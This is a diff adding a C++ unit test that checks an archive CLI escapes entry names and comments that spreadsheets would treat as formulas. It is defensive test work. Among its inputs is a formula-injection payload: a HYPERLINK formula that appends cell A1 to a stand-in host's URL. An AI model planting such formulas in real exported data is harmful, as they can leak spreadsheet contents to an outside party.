@@ -6,6 +6,8 @@
 
 #include <gtest/gtest.h>
 
+#include <iterator>
+
 using ZipBuilder::TArchive;
 
 namespace {
@@ -76,6 +78,40 @@ TEST_F(ArchiveCliTest, EachEntryStaysOneRowWhateverItsNameHolds)
     EXPECT_TRUE(lines[1].startsWith("tab\\there\\\\back\t")) << lines[1].constData();
     EXPECT_TRUE(lines[1].endsWith("\tStored\ttwo\\nlines\\r")) << lines[1].constData();
     EXPECT_TRUE(lines[2].startsWith("plain\t"));
+}
+
+// The rows are pasted into spreadsheets, so a name or comment that would be
+// taken for a formula gets the exports' apostrophe; the escapes come after it.
+TEST_F(ArchiveCliTest, NamesAndCommentsThatLookLikeFormulasStayText)
+{
+    const struct
+    {
+        const char *name, *comment;
+        QByteArray shownName, shownComment;
+    } rows[] = {
+        {"=HYPERLINK(\"http://x.example/\"&A1,\"click\")",
+            "=1+1",
+            "'=HYPERLINK(\"http://x.example/\"&A1,\"click\")",
+            "'=1+1"},
+        {"+1.txt", "@SUM(1)", "'+1.txt", "'@SUM(1)"},
+        {"-2.txt", "\tnote", "'-2.txt", "'\\tnote"},
+        {"\t3.txt", "\rnote", "'\\t3.txt", "'\\rnote"},
+        {"a=b+c.txt", "1-1", "a=b+c.txt", "1-1"},
+    };
+    TArchive a;
+    for (const auto &row : rows)
+        a.Add(row.name, "x").Comment = row.comment;
+    const TCliRun run =
+        RunCli({QStringLiteral("--no-headers"), QStringLiteral("--zip"), Write("a.zip", a.Build())});
+    ASSERT_EQ(run.Status, 0) << run.Err.constData();
+    const QList<QByteArray> lines = run.Out.split('\n');
+    ASSERT_EQ(lines.size(), qsizetype(std::size(rows)) + 2);
+    for (size_t i = 0; i < std::size(rows); ++i) {
+        const QList<QByteArray> cells = lines[qsizetype(i) + 1].split('\t');
+        ASSERT_EQ(cells.size(), 6) << lines[qsizetype(i) + 1].constData();
+        EXPECT_EQ(cells.front(), rows[i].shownName);
+        EXPECT_EQ(cells.back(), rows[i].shownComment);
+    }
 }
 
 TEST_F(ArchiveCliTest, ArchiveFailuresGiveTheReadersMessageAndStatus1)
